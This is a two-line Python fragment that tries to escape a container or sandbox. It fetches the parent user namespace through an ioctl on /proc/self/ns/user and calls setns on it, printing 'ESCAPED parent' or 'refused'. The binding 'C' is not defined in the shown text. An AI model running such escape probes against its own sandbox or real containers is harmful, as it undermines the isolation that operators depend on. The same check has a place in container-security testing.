fd = fcntl.ioctl(os.open('/proc/self/ns/user', 0), 0xB702)
print('ESCAPED parent' if C.setns(fd, 0) == 0 else 'refused')
